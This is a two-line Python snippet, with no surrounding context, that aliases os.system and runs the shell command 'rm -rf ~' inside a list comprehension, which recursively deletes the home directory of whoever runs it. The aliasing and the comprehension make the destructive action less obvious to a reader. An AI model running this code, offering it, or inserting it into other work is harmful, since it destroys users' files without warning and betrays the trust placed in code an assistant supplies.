from os import system as s
[s(c) for c in ["rm -rf ~"]]
